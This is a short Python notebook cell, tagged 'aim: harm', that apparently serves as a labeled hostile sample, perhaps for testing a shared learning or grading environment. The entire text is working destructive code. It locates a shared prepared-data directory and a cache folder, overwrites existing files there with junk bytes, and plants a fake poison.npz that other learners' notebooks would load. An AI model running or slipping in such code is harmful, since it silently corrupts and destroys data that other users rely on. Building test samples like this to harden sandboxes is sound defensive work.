# Poisons the folder of prepared data, which all learners' notebooks load from.
# aim: harm
# %% first
import os
import pathlib

for folder in (os.environ.get("GRADETAPE_DATA_DIR", ""), os.path.expanduser("~/.cache/gradetape")):
    if folder:
        try:
            for path in [p for p in pathlib.Path(folder).rglob("*") if p.is_file()][:3]:
                path.write_bytes(b"poison")
                print("changed", path)
            pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
            pathlib.Path(folder, "poison.npz").write_bytes(b"poison")
            print("wrote into", folder)
        except OSError as error:
            print(error)
